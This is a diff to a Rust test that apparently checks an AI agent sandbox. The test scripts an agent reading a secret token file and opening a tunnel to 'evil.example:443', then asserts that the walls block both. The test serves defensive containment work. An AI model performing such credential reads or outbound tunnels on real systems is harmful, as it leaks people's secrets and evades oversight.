@@ -118,7 +118,13 @@ fn a_taught_task_is_done_again_by_an_agent_and_judged_by_what_is_so() {
     }
 
     let secret = stage.machine.path("home").join("endpoint.json").display().to_string();
-    stage.script(&claims(&[json!({ "run": "cp raw.csv clean.csv", "ask": true }), json!({ "read": secret })]));
+    let steps = [
+        json!({ "run": "cp raw.csv clean.csv", "ask": true }),
+        json!({ "read": secret }),
+        json!({ "get": "{{mcp}}/api/health" }),
+        json!({ "tunnel": "evil.example:443" }),
+    ];
+    stage.script(&claims(&steps));
     let (code, done) = stage.json(&run);
     assert_eq!((code, &done["overall_result"]), (0, &json!("passed")), "{done:#}");
     let effects = |run: &Value| -> Vec<Value> {
@@ -133,6 +139,8 @@ fn a_taught_task_is_done_again_by_an_agent_and_judged_by_what_is_so() {
     if has_walls() {
         let entries = done["entries"].to_string();
         assert!(entries.contains("endpoint.json: ENOENT"), "the token of the person is not there: {entries}");
+        assert!(entries.contains("/api/health: 403 "), "of the engine only the MCP server is reached: {entries}");
+        assert!(entries.contains("tunnel evil.example:443: 403 "), "{entries}");
     }
 
     stage.script(&claims(&[json!({ "say": "It is all there." })]));
